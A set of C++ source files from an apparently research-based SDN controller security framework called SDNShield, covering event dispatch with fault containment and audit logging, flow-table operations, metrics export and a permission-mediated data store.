  if (ShardDispatch* shards = shardDispatch()) {
    // Quarantine barrier: dispatch snapshots taken before the erase may
    // still reference this app's sinks; fencing every shard loop bounds
    // that window — once removeSubscribers returns, no shard will start a
    // new delivery to the removed app.
    shards->fenceShards();
  }
}

std::shared_ptr<SwitchConn> Controller::switchConn(of::DatapathId dpid) const {
  std::lock_guard lock(mutex_);
  auto it = switches_.find(dpid);
  return it == switches_.end() ? nullptr : it->second.conn;
}

std::vector<of::DatapathId> Controller::switchIds() const {
  std::lock_guard lock(mutex_);
  std::vector<of::DatapathId> out;
  out.reserve(switches_.size());
  for (const auto& [dpid, _] : switches_) out.push_back(dpid);
  return out;
}

void Controller::emitTopologyEvent(const TopologyEvent& topoEvent) {
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = topologySubscribers_;
  }
  Event event{topoEvent};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
}

}  // namespace sdnshield::ctrl
