#include "controller/controller.h"

#include <algorithm>

#include "obs/export.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace sdnshield::ctrl {

namespace {

/// what() of the in-flight exception (for fault audit records). Must be
/// called from inside a catch block.
std::string currentExceptionWhat() {
  try {
    throw;
  } catch (const std::exception& error) {
    return error.what();
  } catch (...) {
    return "unknown exception";
  }
}

struct DispatchMetrics {
  obs::Histogram latency =
      obs::Registry::global().histogram("controller.dispatch_ns");
  obs::Counter delivered =
      obs::Registry::global().counter("controller.dispatched");
  obs::Counter faults =
      obs::Registry::global().counter("controller.dispatch_faults");
};

const DispatchMetrics& dispatchMetrics() {
  static const DispatchMetrics metrics;
  return metrics;
}

}  // namespace

void Controller::deliver(const Subscriber& subscriber, const Event& event) {
  // Fault containment on the dispatch path: a throwing handler (inline in
  // the baseline deployment, or a failing sink wrapper in the shielded one)
  // must not unwind into the controller or starve later subscribers.
  std::int64_t startNs = obs::Tracer::nowNs();
  try {
    subscriber.sink(event);
  } catch (...) {
    dispatchFaults_.fetch_add(1, std::memory_order_relaxed);
    dispatchMetrics().faults.increment();
    audit_.recordFault(subscriber.app,
                       "event handler threw: " + currentExceptionWhat());
  }
  std::int64_t durationNs = obs::Tracer::nowNs() - startNs;
  dispatchMetrics().delivered.increment();
  dispatchMetrics().latency.record(durationNs);
  obs::Tracer::global().record("controller.deliver", startNs, durationNs);
}

std::string StatsReport::toText() const {
  std::string out = obs::renderText(metrics);
  out += "audit records=" + std::to_string(auditRecords) +
         " denied=" + std::to_string(auditDenied) +
         " faults=" + std::to_string(auditFaults) +
         " dispatch_faults=" + std::to_string(dispatchFaults) + "\n";
  if (!recentSpans.empty()) {
    out += "spans " + obs::Tracer::formatTrail(recentSpans) + "\n";
  }
  return out;
}

std::string StatsReport::toJson() const {
  std::string metricsJson = obs::renderJson(metrics);
  std::string out = "{\"metrics\":" + metricsJson;
  out += ",\"audit\":{\"records\":" + std::to_string(auditRecords) +
         ",\"denied\":" + std::to_string(auditDenied) +
         ",\"faults\":" + std::to_string(auditFaults) +
         ",\"dispatch_faults\":" + std::to_string(dispatchFaults) + "}";
  out += ",\"recent_spans\":[";
  for (std::size_t i = 0; i < recentSpans.size(); ++i) {
    if (i) out += ",";
    out += "{\"name\":\"" + recentSpans[i].name +
           "\",\"start_ns\":" + std::to_string(recentSpans[i].startNs) +
           ",\"duration_ns\":" + std::to_string(recentSpans[i].durationNs) +
           ",\"seq\":" + std::to_string(recentSpans[i].seq) + "}";
  }
  out += "]}";
  return out;
}

StatsReport Controller::statsReport() const {
  StatsReport report;
  report.metrics = obs::Registry::global().snapshot();
  report.recentSpans = obs::Tracer::global().recentSpans();
  report.auditRecords = audit_.totalRecorded();
  report.auditDenied = audit_.deniedCount();
  report.auditFaults = audit_.faultCount();
  report.dispatchFaults = dispatchFaults_.load(std::memory_order_relaxed);
  return report;
}

void Controller::attachSwitch(std::shared_ptr<SwitchConn> conn) {
  of::DatapathId dpid = conn->dpid();
  {
    std::lock_guard lock(mutex_);
    switches_[dpid] = std::move(conn);
    topology_.addSwitch(dpid);
  }
  emitTopologyEvent(TopologyEvent{TopologyChange::kSwitchUp, dpid, 0});
}

void Controller::detachSwitch(of::DatapathId dpid) {
  {
    std::lock_guard lock(mutex_);
    switches_.erase(dpid);
    topology_.removeSwitch(dpid);
  }
  emitTopologyEvent(TopologyEvent{TopologyChange::kSwitchDown, dpid, 0});
}

void Controller::addLink(of::DatapathId a, of::PortNo aPort, of::DatapathId b,
                         of::PortNo bPort) {
  {
    std::lock_guard lock(mutex_);
    topology_.addLink(a, aPort, b, bPort);
  }
  emitTopologyEvent(TopologyEvent{TopologyChange::kLinkUp, a, b});
}

void Controller::learnHost(const net::Host& host) {
  {
    std::lock_guard lock(mutex_);
    topology_.attachHost(host);
  }
  emitTopologyEvent(TopologyEvent{TopologyChange::kHostSeen, host.dpid, 0});
}

void Controller::onPacketIn(const of::PacketIn& packetIn) {
  std::vector<Interceptor> interceptors;
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    interceptors = packetInInterceptors_;
    subscribers = packetInSubscribers_;
  }
  Event event{PacketInEvent{packetIn}};
  for (const Interceptor& interceptor : interceptors) {
    try {
      if (interceptor.intercept(event)) return;  // Consumed.
    } catch (...) {
      // A faulting interceptor forfeits its consume decision; observers
      // still see the packet.
      dispatchFaults_.fetch_add(1, std::memory_order_relaxed);
      audit_.recordFault(interceptor.app,
                         "interceptor threw: " + currentExceptionWhat());
    }
  }
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
}

void Controller::onFlowRemoved(const of::FlowRemoved& removed) {
  // The cookie carries the issuing app id (stamped at insert time).
  ownership_.recordDelete(removed.dpid, removed.match, removed.priority,
                          /*strict=*/true);
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = flowSubscribers_;
  }
  Event event{FlowEvent{removed.dpid, FlowChange::kRemoved, removed.match,
                        removed.priority,
                        static_cast<of::AppId>(removed.cookie)}};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
}

void Controller::addPacketInInterceptor(of::AppId app,
                                        EventInterceptor interceptor) {
  std::lock_guard lock(mutex_);
  packetInInterceptors_.push_back(Interceptor{app, std::move(interceptor)});
}

void Controller::onSwitchError(const of::ErrorMsg& error) {
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = errorSubscribers_;
  }
  Event event{ErrorEvent{error}};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
}

ApiResult Controller::kernelInsertFlow(of::AppId issuer, of::DatapathId dpid,
                                       const of::FlowMod& mod) {
  std::shared_ptr<SwitchConn> conn = switchConn(dpid);
  if (!conn) return ApiResult::failure("unknown switch");
  of::FlowMod stamped = mod;
  stamped.cookie = issuer;
  if (!conn->applyFlowMod(stamped)) {
    onSwitchError(of::ErrorMsg{dpid, of::ErrorType::kTableFull, "table full"});
    return ApiResult::failure("flow table full");
  }
  bool modify = mod.command == of::FlowModCommand::kModify ||
                mod.command == of::FlowModCommand::kModifyStrict;
  if (!modify) ownership_.recordInsert(issuer, dpid, mod.match, mod.priority);
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = flowSubscribers_;
  }
  Event event{FlowEvent{dpid,
                        modify ? FlowChange::kModified : FlowChange::kInstalled,
                        mod.match, mod.priority, issuer}};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
  return ApiResult::success();
}

ApiResult Controller::kernelDeleteFlow(of::AppId issuer, of::DatapathId dpid,
                                       const of::FlowMatch& match, bool strict,
                                       std::uint16_t priority) {
  std::shared_ptr<SwitchConn> conn = switchConn(dpid);
  if (!conn) return ApiResult::failure("unknown switch");
  of::FlowMod mod;
  mod.command =
      strict ? of::FlowModCommand::kDeleteStrict : of::FlowModCommand::kDelete;
  mod.match = match;
  mod.priority = priority;
  mod.cookie = issuer;
  conn->applyFlowMod(mod);
  ownership_.recordDelete(dpid, match, priority, strict);
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = flowSubscribers_;
  }
  Event event{
      FlowEvent{dpid, FlowChange::kRemoved, match, priority, issuer}};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
  return ApiResult::success();
}

ApiResponse<std::vector<of::FlowEntry>> Controller::kernelReadFlowTable(
    of::DatapathId dpid) const {
  std::shared_ptr<SwitchConn> conn = switchConn(dpid);
  if (!conn) {
    return ApiResponse<std::vector<of::FlowEntry>>::failure("unknown switch");
  }
  return ApiResponse<std::vector<of::FlowEntry>>::success(conn->dumpFlows());
}

net::Topology Controller::kernelReadTopology() const {
  std::lock_guard lock(mutex_);
  return topology_;
}

ApiResponse<of::StatsReply> Controller::kernelReadStatistics(
    const of::StatsRequest& request) const {
  std::shared_ptr<SwitchConn> conn = switchConn(request.dpid);
  if (!conn) return ApiResponse<of::StatsReply>::failure("unknown switch");
  return ApiResponse<of::StatsReply>::success(conn->queryStats(request));
}

ApiResult Controller::kernelSendPacketOut(const of::PacketOut& packetOut) {
  std::shared_ptr<SwitchConn> conn = switchConn(packetOut.dpid);
  if (!conn) return ApiResult::failure("unknown switch");
  conn->transmitPacket(packetOut);
  return ApiResult::success();
}

void Controller::kernelPublishData(of::AppId publisher,
                                   const std::string& topic,
                                   const std::string& payload) {
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = dataSubscribers_;
  }
  Event event{DataUpdateEvent{topic, payload, publisher}};
  for (const Subscriber& subscriber : subscribers) {
    if (subscriber.topic == topic) deliver(subscriber, event);
  }
}

void Controller::addPacketInSubscriber(of::AppId app, EventSink sink) {
  std::lock_guard lock(mutex_);
  packetInSubscribers_.push_back(Subscriber{app, std::move(sink), {}});
}

void Controller::addFlowSubscriber(of::AppId app, EventSink sink) {
  std::lock_guard lock(mutex_);
  flowSubscribers_.push_back(Subscriber{app, std::move(sink), {}});
}

void Controller::addTopologySubscriber(of::AppId app, EventSink sink) {
  std::lock_guard lock(mutex_);
  topologySubscribers_.push_back(Subscriber{app, std::move(sink), {}});
}

void Controller::addErrorSubscriber(of::AppId app, EventSink sink) {
  std::lock_guard lock(mutex_);
  errorSubscribers_.push_back(Subscriber{app, std::move(sink), {}});
}

void Controller::addDataSubscriber(of::AppId app, const std::string& topic,
                                   EventSink sink) {
  std::lock_guard lock(mutex_);
  dataSubscribers_.push_back(Subscriber{app, std::move(sink), topic});
}

void Controller::removeSubscribers(of::AppId app) {
  std::lock_guard lock(mutex_);
  auto drop = [&](std::vector<Subscriber>& list) {
    std::erase_if(list,
                  [&](const Subscriber& sub) { return sub.app == app; });
  };
  drop(packetInSubscribers_);
  std::erase_if(packetInInterceptors_,
                [&](const Interceptor& i) { return i.app == app; });
  drop(flowSubscribers_);
  drop(topologySubscribers_);
  drop(errorSubscribers_);
  drop(dataSubscribers_);
}

std::shared_ptr<SwitchConn> Controller::switchConn(of::DatapathId dpid) const {
  std::lock_guard lock(mutex_);
  auto it = switches_.find(dpid);
  return it == switches_.end() ? nullptr : it->second;
}

std::vector<of::DatapathId> Controller::switchIds() const {
  std::lock_guard lock(mutex_);
  std::vector<of::DatapathId> out;
  out.reserve(switches_.size());
  for (const auto& [dpid, _] : switches_) out.push_back(dpid);
  return out;
}

void Controller::emitTopologyEvent(const TopologyEvent& topoEvent) {
  std::vector<Subscriber> subscribers;
  {
    std::lock_guard lock(mutex_);
    subscribers = topologySubscribers_;
  }
  Event event{topoEvent};
  for (const Subscriber& subscriber : subscribers) deliver(subscriber, event);
}

}  // namespace sdnshield::ctrl
