// Model-driven data store (paper §VIII-B): OpenDaylight's northbound is
// largely reads/writes of a YANG data tree, so SDNShield mediates *data
// access* — "sensitive nodes are associated with the necessary permissions
// required to read or write it", and "all data accesses are mediated by the
// permission engine with the associated permissions".
//
// This is the C++ analogue: a hierarchical path->value store where subtrees
// are annotated with the permission token required to read / write them,
// every access is checked against the caller's compiled permissions, and
// change notifications are delivered only to subscribers allowed to read
// the subtree.
#pragma once

#include <functional>
#include <map>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

#include "controller/api.h"
#include "core/engine/audit.h"
#include "core/engine/permission_engine.h"

namespace sdnshield::ctrl {

class DataStore {
 public:
  /// @p engine == nullptr yields an unmediated store (monolithic baseline).
  explicit DataStore(const engine::PermissionEngine* engine = nullptr,
                     engine::AuditLog* audit = nullptr)
      : engine_(engine), audit_(audit) {}

  /// Annotates a subtree (longest-prefix match wins) with the tokens
  /// required to read / write it. An empty optional means that direction
  /// needs no token. Paths not covered by any annotation are
  /// kernel-only (fail closed) for non-kernel principals.
  void defineSensitivity(std::string pathPrefix,
                         std::optional<perm::Token> readToken,
                         std::optional<perm::Token> writeToken);

  ApiResult write(of::AppId app, const std::string& path, std::string value);
  ApiResponse<std::string> read(of::AppId app, const std::string& path) const;

  /// Direct children names under @p prefix (mediated like a read).
  ApiResponse<std::vector<std::string>> list(of::AppId app,
                                             const std::string& prefix) const;

  /// Change notifications for a subtree; the subscription itself is
  /// mediated by the subtree's *read* token, mirroring the event-token
  /// checks at the kernel deputy.
  using ChangeHandler =
      std::function<void(const std::string& path, const std::string& value)>;
  ApiResult subscribe(of::AppId app, std::string prefix,
                      ChangeHandler handler);

  std::size_t nodeCount() const;

 private:
  struct Sensitivity {
    std::string prefix;
    std::optional<perm::Token> readToken;
    std::optional<perm::Token> writeToken;
  };
  struct Subscription {
    of::AppId app = 0;
    std::string prefix;
    ChangeHandler handler;
  };

  engine::Decision check(of::AppId app, const std::string& path,
                         bool forWrite) const;
  const Sensitivity* findSensitivity(const std::string& path) const;

  const engine::PermissionEngine* engine_;
  engine::AuditLog* audit_;
  mutable std::mutex mutex_;
  std::map<std::string, std::string> nodes_;
  std::vector<Sensitivity> sensitivities_;
  std::vector<Subscription> subscriptions_;
};

}  // namespace sdnshield::ctrl
