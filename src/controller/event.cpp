#include "controller/event.h"

#include <sstream>

namespace sdnshield::ctrl {

namespace {

std::string topologyChangeName(TopologyChange change) {
  switch (change) {
    case TopologyChange::kSwitchUp:
      return "switch_up";
    case TopologyChange::kSwitchDown:
      return "switch_down";
    case TopologyChange::kLinkUp:
      return "link_up";
    case TopologyChange::kLinkDown:
      return "link_down";
    case TopologyChange::kHostSeen:
      return "host_seen";
  }
  return "?";
}

}  // namespace

std::string toString(const Event& event) {
  struct Visitor {
    std::string operator()(const PacketInEvent& e) const {
      std::ostringstream out;
      out << "packet_in dpid=" << e.packetIn.dpid
          << " port=" << e.packetIn.inPort << " "
          << e.packetIn.packet.toString();
      return out.str();
    }
    std::string operator()(const FlowEvent& e) const {
      std::ostringstream out;
      out << "flow_event dpid=" << e.dpid << " "
          << (e.change == FlowChange::kInstalled   ? "installed"
              : e.change == FlowChange::kModified ? "modified"
                                                  : "removed")
          << " " << e.match.toString() << " by app " << e.issuer;
      return out.str();
    }
    std::string operator()(const TopologyEvent& e) const {
      std::ostringstream out;
      out << "topology_event " << topologyChangeName(e.change) << " s"
          << e.dpidA;
      if (e.change == TopologyChange::kLinkUp ||
          e.change == TopologyChange::kLinkDown) {
        out << "<->s" << e.dpidB;
      }
      return out.str();
    }
    std::string operator()(const ErrorEvent& e) const {
      return "error_event dpid=" + std::to_string(e.error.dpid) + " " +
             e.error.detail;
    }
    std::string operator()(const DataUpdateEvent& e) const {
      return "data_update topic=" + e.topic + " from app " +
             std::to_string(e.publisher);
    }
  };
  return std::visit(Visitor{}, event);
}

}  // namespace sdnshield::ctrl
