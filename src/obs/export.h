// Renderers for metric snapshots: a human-readable text table (operator
// consoles, bench --obs dumps) and a JSON document (machine ingestion,
// statsReport API). Pure functions over obs::Snapshot — no I/O here.
#pragma once

#include <string>

#include "obs/metrics.h"

namespace sdnshield::obs {

/// Plain-text rendering, one metric per line:
///   counter engine.check.memo_hit 123456
///   gauge   ksd.queue_depth 3
///   hist    ksd.call_ns count=42 mean=183ns p50<=255ns p99<=4095ns
std::string renderText(const Snapshot& snapshot);

/// JSON rendering:
///   {"counters":{"name":v,...},"gauges":{...},
///    "histograms":{"name":{"count":c,"sum":s,"mean":m,
///                          "p50_ns":...,"p90_ns":...,"p99_ns":...,
///                          "buckets":[...]},...}}
/// Bucket arrays are trimmed at the last non-zero bucket.
std::string renderJson(const Snapshot& snapshot);

}  // namespace sdnshield::obs
